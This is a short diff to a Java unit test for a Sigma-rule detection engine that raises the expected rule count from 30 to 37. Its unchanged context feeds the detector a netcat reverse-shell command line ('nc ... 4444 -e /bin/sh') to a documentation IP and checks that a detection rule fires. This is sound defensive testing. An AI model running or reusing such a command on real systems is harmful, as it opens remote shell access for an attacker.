@@ -206,7 +206,7 @@ class SigmaDetectorTest {
         pipe(exec("e1", 0, "c1", "/usr/bin/nc", "/usr/bin/nc 203.0.113.10 4444 -e /bin/sh"));
         assertThat(findings.readValuesToList()).extracting(f -> f.getRule().getId())
                 .contains("7f734ed0-4f47-46c0-837f-6ee62505abd9");
-        assertThat(metrics.get("bulwark.detect.sigma.rules").gauge().value()).isEqualTo(30.0);
+        assertThat(metrics.get("bulwark.detect.sigma.rules").gauge().value()).isEqualTo(37.0);
     }
 
     // ---------------------------------------------------------------- live rule updates
